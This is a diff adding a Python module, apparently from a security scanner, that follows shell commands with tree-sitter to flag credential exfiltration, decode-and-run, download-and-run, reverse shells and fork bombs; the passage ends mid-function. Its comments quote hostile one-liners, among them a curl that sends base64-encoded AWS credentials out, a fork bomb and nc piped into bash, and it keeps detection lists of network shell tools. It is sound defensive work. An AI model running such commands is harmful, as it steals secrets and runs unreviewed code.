@@ -1,0 +1,1175 @@
+"""Shell read with tree-sitter's bash grammar: commands, pipelines, substitutions and redirects,
+followed for what they do with data.
+
+The walk carries, for every pipeline stage, variable and file, what sensitive data (a
+:class:`~chimera_cards._scan.sensitive.Taint`) and what kind of content (decoded, downloaded) it
+holds, so ``X=$(cat ~/.aws/credentials | base64); curl -d "$X" https://h`` is one flow from a
+credential store to the network, and ``echo … | base64 -d | sh`` is decoded data run. One-liners
+(``bash -c``, ``eval``, ``python -c``, ``node -e``, heredocs fed to an interpreter) are read as the
+language they run. The facts it gathers (sends, reads, commands run) are graded by
+:mod:`chimera_cards._scan.sensitive` and the rules in :mod:`chimera_cards._scan.commands`.
+"""
+
+from __future__ import annotations
+
+import functools
+import re
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from typing import Any
+
+from chimera_cards._scan.sensitive import (
+    CodeFacts,
+    Send,
+    Taint,
+    credential_in,
+    host_of,
+    is_secret_name,
+)
+
+# Deepest nesting of one-liners read (``bash -c "eval \"$(…)\""``): each level is a new parse.
+MAX_DEPTH = 4
+# Past this many commands in one unit the rest are not looked at one by one (the findings of
+# the first ones are enough, and a megabyte of ``curl`` words stays linear and small).
+MAX_COMMANDS = 200_000
+# Sizes of the pieces a long text is parsed in (see _chunks).
+CHUNK = 32_768
+LONG_LINE = 2_048
+
+
+@dataclass
+class Out:
+    """What a stage, word or variable holds: sensitive data, and whether it is decoded or
+    downloaded content (run later, either is code nobody reviewed)."""
+
+    taint: set[Taint] = field(default_factory=set)
+    decoded: bool = False
+    downloaded: bool = False
+
+    def merge(self, other: Out | None) -> Out:
+        if other is not None:
+            self.taint |= other.taint
+            self.decoded = self.decoded or other.decoded
+            self.downloaded = self.downloaded or other.downloaded
+        return self
+
+    def copy(self) -> Out:
+        return Out(set(self.taint), self.decoded, self.downloaded)
+
+
+@dataclass
+class Word:
+    """One word of a command: its text with quotes removed (expansions kept as written) and what
+    it holds."""
+
+    text: str
+    out: Out
+
+
+@dataclass
+class Command:
+    """One command as run: its name (wrappers such as ``sudo`` and ``env`` taken off), arguments,
+    line, and leading variable assignments (``FOO=1 cmd``)."""
+
+    name: str
+    args: list[Word]
+    line: int
+    assigns: list[str] = field(default_factory=list)
+    stdin: Out = field(default_factory=Out)
+
+    @property
+    def argv(self) -> list[str]:
+        return [w.text for w in self.args]
+
+
+@dataclass
+class ShellFacts(CodeFacts):
+    """What a shell unit does, for the rules to grade."""
+
+    commands: list[Command] = field(default_factory=list)
+    writes: list[tuple[int, str, Out, str]] = field(
+        default_factory=list
+    )  # (line, path, content, text)
+    tainted_files: dict[str, Out] = field(default_factory=dict)
+    embedded: list[tuple[str, str, int]] = field(default_factory=list)  # (language, code, line)
+    output: Out = field(default_factory=Out)
+    fork_bombs: list[tuple[int, str]] = field(default_factory=list)
+
+
+@functools.lru_cache(maxsize=1)
+def _parser() -> Any:
+    import tree_sitter
+    import tree_sitter_bash
+
+    return tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))
+
+
+def parse_shell(text: str) -> Any:
+    """The tree-sitter tree of a shell text (its bytes are UTF-8)."""
+    return _parser().parse(text.encode("utf-8", "surrogatepass"))
+
+
+_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "mksh", "busybox"})
+_PYTHONS = re.compile(r"^(?:python[0-9.]*|pypy[0-9.]*|py)$")
+_NODES = frozenset({"node", "nodejs", "deno", "bun"})
+_OTHER_INTERPRETERS = frozenset({"perl", "ruby", "php", "pwsh", "powershell", "lua", "osascript"})
+_WRAPPERS = frozenset(
+    {
+        "sudo",
+        "doas",
+        "env",
+        "nohup",
+        "time",
+        "nice",
+        "ionice",
+        "timeout",
+        "command",
+        "builtin",
+        "exec",
+        "stdbuf",
+        "setsid",
+        "unbuffer",
+        "chronic",
+        "caffeinate",
+        "torsocks",
+        "proxychains",
+        "proxychains4",
+        "su",
+    }
+)
+# Commands whose path arguments are not read for their content.
+_NOT_READING = frozenset(
+    {
+        "chmod",
+        "chown",
+        "chgrp",
+        "mkdir",
+        "rmdir",
+        "rm",
+        "touch",
+        "ls",
+        "stat",
+        "test",
+        "[",
+        "[[",
+        "ssh-keygen",
+        "ssh",
+        "ssh-add",
+        "ssh-copy-id",
+        "git",
+        "echo",
+        "printf",
+        "cd",
+        "export",
+        "source",
+        ".",
+        "mv",
+        "ln",
+        "file",
+        "which",
+        "type",
+        "realpath",
+        "dirname",
+        "basename",
+        "du",
+        "docker",
+        "kubectl",
+        "helm",
+        "aws",
+        "gcloud",
+        "az",
+        "terraform",
+        "npm",
+        "pip",
+        "pip3",
+        "code",
+        "vim",
+        "vi",
+        "nano",
+        "open",
+        "wc",
+        "diff",
+        "mount",
+        "umount",
+        "python",
+        "python3",
+        "node",
+        "unset",
+        "read",
+    }
+)
+_ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare", "compgen", "typeset"})
+_CLIPBOARD = frozenset(
+    {"pbcopy", "xclip", "xsel", "wl-copy", "clip", "clip.exe", "termux-clipboard-set"}
+)
+_MAILERS = frozenset({"mail", "mailx", "sendmail", "mutt", "msmtp", "ssmtp"})
+_DNS = frozenset({"dig", "nslookup", "host", "ping", "drill", "resolvectl"})
+_RAW_NET = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "cryptcat", "pwncat"})
+_COPIERS = frozenset({"scp", "rsync", "sftp", "rclone", "croc"})
+
+_CURL_DATA = frozenset(
+    {
+        "-d",
+        "--data",
+        "--data-binary",
+        "--data-raw",
+        "--data-urlencode",
+        "--data-ascii",
+        "-F",
+        "--form",
+        "--form-string",
+        "-T",
+        "--upload-file",
+        "--json",
+    }
+)
+_CURL_HEADER = frozenset({"-H", "--header", "-u", "--user", "--oauth2-bearer", "-b", "--cookie"})
+_CURL_ARG_OPTS = frozenset(
+    {
+        "-o",
+        "--output",
+        "-X",
+        "--request",
+        "-A",
+        "--user-agent",
+        "-e",
+        "--referer",
+        "-m",
+        "--max-time",
+        "--connect-timeout",
+        "-w",
+        "--write-out",
+        "-x",
+        "--proxy",
+        "--retry",
+        "-c",
+        "--cookie-jar",
+        "-K",
+        "--config",
+        "--cacert",
+        "--cert",
+        "--key",
+        "-E",
+        "--resolve",
+        "--url",
+        "-r",
+        "--range",
+        "-Y",
+        "-y",
+        "--limit-rate",
+        "-C",
+        "--output-dir",
+    }
+)
+_WGET_DATA = frozenset({"--post-data", "--post-file", "--body-data", "--body-file"})
+_WGET_ARG_OPTS = frozenset(
+    {
+        "-O",
+        "--output-document",
+        "-P",
+        "--directory-prefix",
+        "-o",
+        "-a",
+        "--header",
+        "-U",
+        "--user-agent",
+        "-e",
+        "-t",
+        "-T",
+        "--method",
+    }
+)
+_REMOTE_RE = re.compile(
+    r"^(?:[\w.+-]+@)?([A-Za-z0-9][\w.-]*\.[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}):"
+)
+_HOSTISH_RE = re.compile(
+    r"^(?:[\w.+-]+@)?((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?(?:/|$)"
+)
+_DEV_TCP_RE = re.compile(r"/dev/(?:tcp|udp)/([^/\s]+)/")
+_HEX_ESCAPES_RE = re.compile(r"(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}){8,}")
+_ASSIGN_RE = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
+
+
+def _basename(word: str) -> str:
+    return word.rsplit("/", 1)[-1].rsplit("\\", 1)[-1]
+
+
+def _interpreter(name: str) -> str | None:
+    if name in _SHELLS:
+        return "shell"
+    if _PYTHONS.match(name):
+        return "python"
+    if name in _NODES:
+        return "javascript"
+    if name in _OTHER_INTERPRETERS:
+        return "other"
+    return None
+
+
+class _WalkerBase:
+    """A unit's state, and words, loops, redirects and the paths they read and write."""
+
+    # Defined by _Walker, which builds on this class (a loop's body holds commands).
+    command: Callable[[Any, Out], Out]
+
+    def __init__(
+        self,
+        facts: ShellFacts,
+        *,
+        first_line: int,
+        depth: int,
+        variables: dict[str, Out],
+        embed: Callable[[str, str, int], Out] | None,
+    ) -> None:
+        self.facts = facts
+        self.first_line = first_line
+        self.depth = depth
+        self.vars = variables
+        self.embed = embed
+        self.count = 0
+
+    def line(self, node: Any) -> int:
+        return self.first_line + node.start_point[0]
+
+    # --- words -----------------------------------------------------------------------------
+
+    def word(self, node: Any) -> Word:
+        kind = node.type
+        if kind == "raw_string":
+            return Word(node.text.decode("utf-8", "replace")[1:-1], Out())
+        if kind in ("word", "number"):
+            text = node.text.decode("utf-8", "replace")
+            if "\\" in text:
+                text = re.sub(r"\\(.)", r"\1", text)
+            return Word(text, Out())
+        if kind == "ansi_c_string":
+            raw = node.text.decode("utf-8", "replace")[2:-1]
+            out = Out(decoded=bool(_HEX_ESCAPES_RE.search(raw)))
+            try:
+                text = raw.encode("latin-1", "backslashreplace").decode("unicode_escape")
+            except UnicodeDecodeError:
+                text = raw
+            return Word(text, out)
+        if kind == "simple_expansion" or kind == "expansion":
+            return self.expansion(node)
+        if kind in ("command_substitution", "process_substitution"):
+            out = Out()
+            for child in node.named_children:
+                out.merge(self.statement(child, Out()))
+            return Word("$(…)", out)
+        # string, concatenation, and anything else made of parts
+        parts: list[str] = []
+        out = Out()
+        for child in node.children:
+            if child.type == '"':
+                continue
+            if child.type == "string_content":
+                parts.append(child.text.decode("utf-8", "replace"))
+                continue
+            sub = self.word(child)
+            parts.append(sub.text)
+            out.merge(sub.out)
+        return Word("".join(parts), out)
+
+    def expansion(self, node: Any) -> Word:
+        name = ""
+        for child in node.named_children:
+            if child.type in ("variable_name", "special_variable_name"):
+                name = child.text.decode("utf-8", "replace")
+                break
+        out = Out()
+        for child in node.named_children:
+            if child.type in ("command_substitution", "process_substitution", "expansion"):
+                out.merge(self.word(child).out)
+        if name in self.vars:
+            out.merge(self.vars[name])
+        elif name and is_secret_name(name):
+            out.taint.add(Taint("env", name))
+        return Word(f"${{{name}}}" if name else node.text.decode("utf-8", "replace"), out)
+
+    # --- statements ------------------------------------------------------------------------
+
+    def statement(self, node: Any, stdin: Out) -> Out:
+        self.count += 1
+        if self.count > MAX_COMMANDS:
+            return Out()
+        kind = node.type
+        if kind == "command":
+            return self.command(node, stdin)
+        if kind == "pipeline":
+            out = stdin
+            for child in node.named_children:
+                out = self.statement(child, out)
+            return out
+        if kind == "redirected_statement":
+            return self.redirected(node, stdin)
+        if kind == "variable_assignment":
+            self.assign(node)
+            return Out()
+        if kind == "declaration_command":
+            out = Out()
+            for child in node.named_children:
+                if child.type == "variable_assignment":
+                    self.assign(child)
+                elif child.type not in ("variable_name",):
+                    out.merge(self.word(child).out)
+            return out
+        if kind == "for_statement":
+            return self.for_loop(node, stdin)
+        if kind == "function_definition":
+            self.fork_bomb(node)
+        if kind in ("comment", "heredoc_body", "heredoc_start", "heredoc_end"):
+            return Out()
+        if kind in (
+            "command_substitution",
+            "process_substitution",
+            "string",
+            "concatenation",
+            "simple_expansion",
+            "expansion",
+        ):
+            return self.word(node).out
+        out = Out()
+        for child in node.named_children:
+            out.merge(self.statement(child, stdin if kind == "subshell" else Out()))
+        return out
+
+    def fork_bomb(self, node: Any) -> None:
+        """``:(){ :|:& };:``: a function that pipes itself into itself in the background."""
+        name_node = node.child_by_field_name("name")
+        body = node.child_by_field_name("body")
+        if name_node is None or body is None:
+            return
+        name = name_node.text.decode("utf-8", "replace")
+        text = body.text.decode("utf-8", "replace")
+        if re.search(rf"(?<![\w-]){re.escape(name)}\s*\|\s*{re.escape(name)}\s*&", text):
+            self.facts.fork_bombs.append((self.line(node), f"{name}() {{ {name}|{name}& }}"))
+
+    def assign(self, node: Any) -> None:
+        name_node = node.child_by_field_name("name")
+        value = node.child_by_field_name("value")
+        if name_node is None:
+            return
+        name = name_node.text.decode("utf-8", "replace")
+        out = self.word(value).out if value is not None else Out()
+        if value is not None:
+            text = self.word(value).text
+            if credential_in(text):
+                out.taint.add(Taint("credential", credential_in(text) or text))
+                out.taint.add(Taint("path", text))
+        self.vars[name] = out
+
+    def for_loop(self, node: Any, stdin: Out) -> Out:
+        variable = node.child_by_field_name("variable")
+        values = Out()
+        for child in node.children_by_field_name("value"):
+            word = self.word(child)
+            values.merge(word.out)
+            found = credential_in(word.text)
+            if found:
+                values.taint.add(Taint("credential", found))
+        if variable is not None:
+            self.vars[variable.text.decode("utf-8", "replace")] = values
+        body = node.child_by_field_name("body")
+        return self.statement(body, stdin) if body is not None else Out()
+
+    def redirected(self, node: Any, stdin: Out) -> Out:
+        body = node.child_by_field_name("body")
+        feed = stdin.copy()
+        outputs: list[tuple[str, Any]] = []
+        heredoc: str | None = None
+        heredoc_line = 0
+        for redirect in node.children_by_field_name("redirect"):
+            kind = redirect.type
+            if kind == "heredoc_redirect":
+                body_node = next(
+                    (c for c in redirect.named_children if c.type == "heredoc_body"), None
+                )
+                if body_node is not None:
+                    heredoc = body_node.text.decode("utf-8", "replace")
+                    heredoc_line = self.line(body_node)
+                    feed.merge(self.word(body_node).out)
+                for inner in redirect.named_children:
+                    if inner.type == "file_redirect":
+                        outputs.append(self.file_redirect(inner, feed))
+                continue
+            if kind == "herestring_redirect":
+                for child in redirect.named_children:
+                    feed.merge(self.word(child).out)
+                continue
+            if kind == "file_redirect":
+                op = redirect.children[0].text.decode() if redirect.children else ">"
+                if op.startswith("<") and op != "<&":
+                    dest = redirect.child_by_field_name("destination")
+                    if dest is not None:
+                        feed.merge(self.read_path(self.word(dest), self.line(redirect)))
+                else:
+                    outputs.append(self.file_redirect(redirect, feed))
+        if body is None:
+            return feed
+        if heredoc is not None and body.type == "command":
+            self.pending_heredoc = (heredoc, heredoc_line)
+        before = len(self.facts.commands)
+        out = self.statement(body, feed)
+        self.pending_heredoc = None
+        written = heredoc or " ".join(
+            " ".join([c.name, *c.argv]) for c in self.facts.commands[before:]
+        )
+        for path, redirect in outputs:
+            if path:
+                self.write(path, out, self.line(redirect), written[:4096])
+                if _DEV_TCP_RE.search(path) and body.type == "command":
+                    name = self.facts.commands[-1].name if self.facts.commands else ""
+                    if _interpreter(name) is not None:
+                        self.facts.reverse_shell.append((self.line(node), f"{name} to {path}"))
+        return Out() if outputs else out
+
+    pending_heredoc: tuple[str, int] | None = None
+
+    def file_redirect(self, redirect: Any, feed: Out) -> tuple[str, Any]:
+        dest = redirect.child_by_field_name("destination")
+        if dest is None or dest.type == "number":
+            return "", redirect
+        return self.word(dest).text, redirect
+
+    def read_path(self, word: Word, line: int) -> Out:
+        out = word.out.copy()
+        path = word.text
+        found = credential_in(path)
+        if found:
+            taint = Taint("credential", found)
+            out.taint.add(taint)
+            self.facts.reads.append((line, taint))
+        known = self.facts.tainted_files.get(path)
+        if known is not None:
+            out.merge(known)
+        for taint in list(out.taint):
+            if taint.kind == "path":
+                out.taint.discard(taint)
+        return out
+
+    def write(self, path: str, content: Out, line: int, text: str = "") -> None:
+        self.facts.writes.append((line, path, content, text))
+        if content.taint or content.decoded or content.downloaded:
+            self.facts.tainted_files.setdefault(path, Out()).merge(content)
+        tcp = _DEV_TCP_RE.search(path)
+        if tcp:
+            self.facts.sends.append(Send(line, tcp.group(1), "/dev/tcp", body=set(content.taint)))
+
+    # --- commands --------------------------------------------------------------------------
+
+
+class _Walker(_WalkerBase):
+    """The walk over a shell unit: each command, what it runs and where its data goes."""
+
+    def command(self, node: Any, stdin: Out) -> Out:
+        words: list[Word] = []
+        assigns: list[str] = []
+        for child in node.named_children:
+            if child.type == "variable_assignment":
+                assigns.append(child.text.decode("utf-8", "replace"))
+                self.assign(child)
+            elif child.type == "command_name":
+                words.extend(self.word(c) for c in child.named_children)
+            elif child.type in ("file_redirect", "herestring_redirect", "heredoc_redirect"):
+                continue
+            else:
+                words.append(self.word(child))
+        words = self.unwrap(words, assigns)
+        if not words:
+            return Out()
+        if words[0].out.decoded or words[0].out.downloaded:
+            # $(echo Y3VybA== | base64 -d) ...: the command itself is hidden.
+            self._ran_line(self.line(node), words[0].out, "a command decoded at run time")
+        known = self.facts.tainted_files.get(words[0].text) or self.facts.tainted_files.get(
+            words[0].text.removeprefix("./")
+        )
+        if known is not None and (known.decoded or known.downloaded):
+            # curl -o /tmp/x URL && chmod +x /tmp/x && /tmp/x: a downloaded program run.
+            hidden = _basename(words[0].text).startswith(".")
+            self._ran_line(
+                self.line(node), known, ("piped into " if hidden else "") + words[0].text
+            )
+        name = _basename(words[0].text)
+        cmd = Command(name, words[1:], self.line(node), assigns, stdin)
+        if len(self.facts.commands) < MAX_COMMANDS:
+            self.facts.commands.append(cmd)
+        return self.run(cmd, stdin)
+
+    def unwrap(self, words: list[Word], assigns: list[str]) -> list[Word]:
+        # sudo -E -u user env A=1 nohup curl ...: the command is curl.
+        for _ in range(8):
+            if not words:
+                return words
+            head = _basename(words[0].text)
+            if head not in _WRAPPERS or len(words) == 1:
+                return words
+            rest = words[1:]
+            if head == "su":
+                return words  # su -c is read as a one-liner by run()
+            while rest and (rest[0].text.startswith("-") or _ASSIGN_RE.match(rest[0].text)):
+                flag = rest.pop(0).text
+                if _ASSIGN_RE.match(flag):
+                    assigns.append(flag)
+                elif head in ("sudo", "doas") and flag in ("-u", "-g", "-C", "-h", "-p"):
+                    if rest:
+                        rest.pop(0)
+                elif head in ("nice", "ionice") and flag in ("-n", "-c") and rest:
+                    rest.pop(0)
+            if head == "timeout" and rest and rest[0].text[:1].isdigit():
+                rest.pop(0)
+            if not rest:
+                return words[:1]  # a bare ``env`` or ``export``: the command itself
+            words = rest
+        return words
+
+    def run(self, cmd: Command, stdin: Out) -> Out:
+        name, args = cmd.name, cmd.args
+        out = stdin.copy()
+        for arg in args:
+            out.merge(arg.out)
+        # What it reads: credential files and files an earlier step filled with secrets.
+        if name not in _NOT_READING:
+            for arg in args:
+                # Flags name no file to read, except curl's @file forms (-d @f, -F x=@f).
+                if (
+                    arg.text.startswith("-")
+                    and "=@" not in arg.text
+                    and not arg.text.startswith("@")
+                ):
+                    continue
+                out.merge(self.read_path(Word(_strip_at(arg.text), Out()), cmd.line))
+        for taint in list(out.taint):
+            if taint.kind == "path":
+                out.taint.discard(taint)
+        if name in _ENV_DUMPS and self._dumps_env(name, cmd.argv):
+            out.taint.add(Taint("env-all", f"{name} (every environment variable)"))
+        if (
+            name == "security"
+            and args
+            and args[0].text
+            in ("find-generic-password", "find-internet-password", "dump-keychain", "export")
+        ):
+            taint = Taint("credential", f"macOS keychain ({args[0].text})")
+            out.taint.add(taint)
+            self.facts.reads.append((cmd.line, taint))
+        self.decoders(cmd, out)
+        self.interpreters(cmd, stdin, out)
+        self.network(cmd, stdin, out)
+        self.copies(cmd, out)
+        if (name in ("curl", "wget") and not self._has_output_file(cmd)) or name in _RAW_NET:
+            out.downloaded = True  # what comes off the network (nc -l … | bash runs it)
+        if name in ("curl", "wget", "aria2c", "fetch"):
+            target = self._output_file(cmd)
+            if target:
+                self.facts.tainted_files.setdefault(target, Out()).downloaded = True
+        if name in (
+            "less",
+            "more",
+            "cat",
+            "head",
+            "view",
+            "vim",
+            "vi",
+            "nano",
+            "bat",
+            "code",
+            "open",
+        ):
+            for arg in args:
+                known = self.facts.tainted_files.get(arg.text)
+                if known is not None and known.downloaded and not known.taint:
+                    # Shown to the user before it runs: a reviewed download.
+                    known.downloaded = False
+        if name == "tee":
+            for arg in args:
+                if not arg.text.startswith("-"):
+                    self.write(arg.text, out, cmd.line)
+        return out
+
+    @staticmethod
+    def _dumps_env(name: str, argv: list[str]) -> bool:
+        if name == "printenv":
+            return not argv or any(is_secret_name(a) for a in argv)
+        if name == "env":
+            return not argv
+        if name in ("export", "declare", "typeset"):
+            return argv in (["-p"], ["-x"], ["-px"])
+        if name == "set":
+            return not argv
+        return name == "compgen" and argv[:1] in (["-e"], ["-v"])
+
+    def decoders(self, cmd: Command, out: Out) -> None:
+        name, argv = cmd.name, cmd.argv
+        decoded = (
+            (
+                name in ("base64", "gbase64")
+                and any(
+                    a in ("-d", "--decode", "-D")
+                    or (a.startswith("-") and not a.startswith("--") and "d" in a)
+                    for a in argv
+                )
+            )
+            or (name == "xxd" and any(a.startswith("-r") for a in argv))
+            or (name == "openssl" and "-d" in argv)
+            or (name in ("uudecode", "base32") and "-d" in argv)
+            or (name in ("printf", "echo") and any(_HEX_ESCAPES_RE.search(a) for a in argv))
+            or (name == "rev" and cmd.stdin.decoded)
+            or (name == "tr" and cmd.stdin.decoded)
+        )
+        if decoded:
+            out.decoded = True
+
+    def _run_code(self, language: str, code: str, line: int, stdin: Out, how: str) -> Out:
+        self.facts.embedded.append((language, code, line))
+        if language == "shell" and self.depth < MAX_DEPTH:
+            inner = analyse_shell(
+                code,
+                first_line=line,
+                depth=self.depth + 1,
+                variables=self.vars,
+                tainted_files=self.facts.tainted_files,
+                embed=self.embed,
+                facts=self.facts,
+            )
+            return inner
+        if self.embed is not None and language in ("python", "javascript", "other"):
+            return self.embed(language, code, line)
+        return Out()
+
+    def interpreters(self, cmd: Command, stdin: Out, out: Out) -> None:
+        name, args = cmd.name, cmd.args
+        language = _interpreter(name)
+        code_word: Word | None = None
+        if name == "eval":
+            code_word = Word(" ".join(a.text for a in args), Out())
+            for arg in args:
+                code_word.out.merge(arg.out)
+            language = "shell"
+        elif name in ("source", ".") and args:
+            target = args[0]
+            if target.out.decoded or target.out.downloaded or target.text in ("/dev/stdin", "-"):
+                self._ran(
+                    cmd, target.out if target.text not in ("/dev/stdin", "-") else stdin, name
+                )
+            known = self.facts.tainted_files.get(target.text)
+            if known is not None:
+                self._ran(cmd, known, name)
+            return
+        elif language is not None:
+            flags = {
+                "shell": ("-c",),
+                "python": ("-c",),
+                "javascript": ("-e", "--eval", "-p", "--print"),
+                "other": ("-e", "-E", "-r", "-Command", "-c"),
+            }[language]
+            for index, arg in enumerate(args):
+                if arg.text in flags and index + 1 < len(args):
+                    code_word = args[index + 1]
+                    break
+                if (
+                    language == "shell"
+                    and arg.text.startswith("-")
+                    and "c" in arg.text[1:]
+                    and not arg.text.startswith("--")
+                ):
+                    if index + 1 < len(args):
+                        code_word = args[index + 1]
+                    break
+        elif name == "su":
+            for index, arg in enumerate(args):
+                if arg.text == "-c" and index + 1 < len(args):
+                    code_word, language = args[index + 1], "shell"
+        elif name == "xargs":
+            # xargs sh -c '...': the shell runs its input.
+            rest = [a for a in args if not a.text.startswith("-")]
+            if rest and stdin.decoded and not _interpreter(_basename(rest[0].text)):
+                # decoded text handed to a command as its arguments: what it runs is hidden
+                self._ran(cmd, stdin, f"xargs {rest[0].text}")
+                return
+            if (
+                rest
+                and _interpreter(_basename(rest[0].text))
+                and (stdin.decoded or stdin.downloaded)
+            ):
+                self._ran(cmd, stdin, f"xargs {rest[0].text}")
+            return
+        if language is None:
+            return
+        if code_word is not None:
+            if code_word.out.decoded or code_word.out.downloaded:
+                self._ran(cmd, code_word.out, name)
+            out.merge(self._run_code(language, code_word.text, cmd.line, stdin, name))
+            return
+        heredoc = self.pending_heredoc
+        if heredoc is not None:
+            self.pending_heredoc = None
+            if language != "other":
+                out.merge(self._run_code(language, heredoc[0], heredoc[1], stdin, name))
+            return
+        script = next((a for a in args if not a.text.startswith("-")), None)
+        if script is None or script.text in ("-", "/dev/stdin"):
+            if stdin.decoded or stdin.downloaded:
+                # Piped straight in: nothing of it was ever on disk to look at.
+                self._ran(cmd, stdin, f"piped into {name}")
+            return
+        if script.out.decoded or script.out.downloaded:
+            self._ran(cmd, script.out, name)
+        known = self.facts.tainted_files.get(script.text) or self.facts.tainted_files.get(
+            script.text.removeprefix("./")
+        )
+        if known is not None and (known.decoded or known.downloaded):
+            self._ran(cmd, known, f"{name} {script.text}")
+
+    def _ran(self, cmd: Command, what: Out, how: str) -> None:
+        self._ran_line(cmd.line, what, how)
+
+    def _ran_line(self, line: int, what: Out, how: str) -> None:
+        if what.decoded:
+            self.facts.decode_exec.append((line, how))
+        elif what.downloaded:
+            self.facts.download_exec.append((line, how))
+
+    def network(self, cmd: Command, stdin: Out, out: Out) -> None:
+        name, args = cmd.name, cmd.args
+        if name == "curl":
+            self.curl(cmd, stdin)
+        elif name == "wget":
+            self.wget(cmd, stdin)
+        elif name in _RAW_NET:
+            hosts = [a.text for a in args if not a.text.startswith("-") and not a.text.isdigit()]
+            body = set(stdin.taint)
+            for arg in args:
+                body |= arg.out.taint
+            if any(a.text in ("-e", "-c", "--exec", "--sh-exec") for a in args) or any(
+                "exec:" in a.text or "EXEC:" in a.text for a in args
+            ):
+                self.facts.reverse_shell.append((cmd.line, " ".join([name, *cmd.argv])[:120]))
+            if any(a.text in ("-l", "-lp", "-lvp", "-lnvp", "--listen") for a in args):
+                return
+            if (
+                any(
+                    a.text.startswith("-") and "z" in a.text and not a.text.startswith("--")
+                    for a in args
+                )
+                and not body
+            ):
+                return  # nc -z: a port check, nothing is sent
+            self.facts.sends.append(Send(cmd.line, hosts[0] if hosts else None, name, body=body))
+        elif name in _MAILERS:
+            body = set(stdin.taint)
+            for arg in args:
+                body |= arg.out.taint
+            rcpt = next((a.text for a in args if "@" in a.text), None)
+            host = rcpt.rsplit("@", 1)[-1] if rcpt else None
+            self.facts.sends.append(Send(cmd.line, host, name, body=body))
+        elif name in _DNS:
+            tainted = set()
+            for arg in args:
+                tainted |= arg.out.taint
+            if tainted:
+                self.facts.sends.append(Send(cmd.line, "a DNS lookup", name, body=tainted))
+        elif name in _CLIPBOARD:
+            self.facts.sends.append(
+                Send(cmd.line, None, name, body=set(stdin.taint), sink="clipboard")
+            )
+        elif name == "ssh":
+            rest = [a for a in args if not a.text.startswith("-")]
+            if rest and (stdin.taint or any(a.out.taint for a in rest[1:])):
+                body = set(stdin.taint)
+                for arg in rest[1:]:
+                    body |= arg.out.taint
+                remote = _REMOTE_RE.match(rest[0].text + ":")
+                self.facts.sends.append(
+                    Send(cmd.line, remote.group(1) if remote else rest[0].text, "ssh", body=body)
+                )
+        elif name in _COPIERS or (
+            name in ("aws", "gsutil", "az", "gcloud") and self._cloud_upload(cmd)
+        ):
+            self.copier(cmd, stdin)
+
+    @staticmethod
+    def _cloud_upload(cmd: Command) -> bool:
+        argv = cmd.argv
+        return any(a.startswith(("s3://", "gs://", "az://", "https://")) for a in argv[1:]) and any(
+            a in ("cp", "sync", "mv", "upload", "upload-batch") for a in argv[:3]
+        )
+
+    def copier(self, cmd: Command, stdin: Out) -> None:
+        args = [a for a in cmd.args if not a.text.startswith("-")]
+        remote = [
+            a for a in args if _REMOTE_RE.match(a.text) or a.text.startswith(("s3://", "gs://"))
+        ]
+        if not remote:
+            return
+        dest = remote[-1]
+        if args and args[-1] is not dest and cmd.name != "rclone":
+            return  # copying from a remote to here is a download
+        body: set[Taint] = set(stdin.taint)
+        for arg in args:
+            if arg is dest:
+                continue
+            body |= arg.out.taint
+            body |= self.read_path(Word(arg.text, Out()), cmd.line).taint
+        match = _REMOTE_RE.match(dest.text)
+        host = match.group(1) if match else dest.text.split("/")[2] if "://" in dest.text else None
+        self.facts.sends.append(Send(cmd.line, host, cmd.name, body=body))
+
+    def copies(self, cmd: Command, out: Out) -> None:
+        # cp/tar/zip of a credential store: the copy holds the secrets too.
+        if (
+            cmd.name
+            in (
+                "cp",
+                "tar",
+                "zip",
+                "7z",
+                "gzip",
+                "rsync",
+                "ditto",
+                "install",
+                "gpg",
+                "openssl",
+            )
+            and out.taint
+        ):
+            for arg in cmd.args:
+                if not arg.text.startswith("-") and not credential_in(arg.text):
+                    self.write(arg.text, out, cmd.line)
+
+    @staticmethod
+    def _output_file(cmd: Command) -> str | None:
+        argv = cmd.argv
+        for index, arg in enumerate(argv):
+            if arg in ("-o", "--output", "-O", "--output-document") and index + 1 < len(argv):
+                return argv[index + 1]
+            if arg.startswith("--output=") or arg.startswith("--output-document="):
+                return arg.split("=", 1)[1]
+        return None
+
+    def _has_output_file(self, cmd: Command) -> bool:
+        return self._output_file(cmd) is not None or any(
+            a in ("-O", "--remote-name", "-LO", "-sLO", "-fsSLO") for a in cmd.argv
+        )
+
+    def curl(self, cmd: Command, stdin: Out) -> None:
+        args = cmd.args
+        body: set[Taint] = set()
+        header: set[Taint] = set()
+        urls: list[Word] = []
+        sends = False
+        index = 0
+        while index < len(args):
+            word = args[index]
+            text = word.text
+            value: Word | None = None
+            flag = text
+            if text.startswith("--") and "=" in text:
+                flag, _, rest = text.partition("=")
+                value = Word(rest, word.out)
+            elif (
+                text.startswith("-")
+                and not text.startswith("--")
+                and len(text) > 2
+                and text[:2] in _CURL_DATA | _CURL_HEADER
+            ):
+                flag, value = text[:2], Word(text[2:], word.out)
+            elif text in _CURL_DATA | _CURL_HEADER | _CURL_ARG_OPTS and index + 1 < len(args):
+                value = args[index + 1]
+                index += 1
+            if flag in _CURL_DATA and value is not None:
+                sends = True
+                body |= value.out.taint
+                body |= self._data_file(value.text, stdin, cmd.line)
+            elif flag in _CURL_HEADER and value is not None:
+                header |= value.out.taint
+                if value.text.startswith("@"):
+                    body |= self._data_file(value.text, stdin, cmd.line)
+            elif flag in ("-X", "--request") and value is not None:
+                sends = sends or value.text.upper() in ("POST", "PUT", "PATCH")
+            elif flag == "--url" and value is not None:
+                urls.append(value)
+            elif value is None and not text.startswith("-"):
+                urls.append(word)
+            index += 1
+        url_taint: set[Taint] = set()
+        for url in urls:
+            url_taint |= url.out.taint
+        if url_taint:
+            sends = True
+            body |= url_taint
+        if not sends and not header:
+            return
+        host = next((h for h in (host_of(u.text) or _bare_host(u.text) for u in urls) if h), None)
+        self.facts.sends.append(Send(cmd.line, host, "curl", body=body, header=header))
+
+    def _data_file(self, value: str, stdin: Out, line: int) -> set[Taint]:
+        # -d @file, -F name=@file, -F name=<file, -T file: the file's content is sent.
+        at = value.find("@")
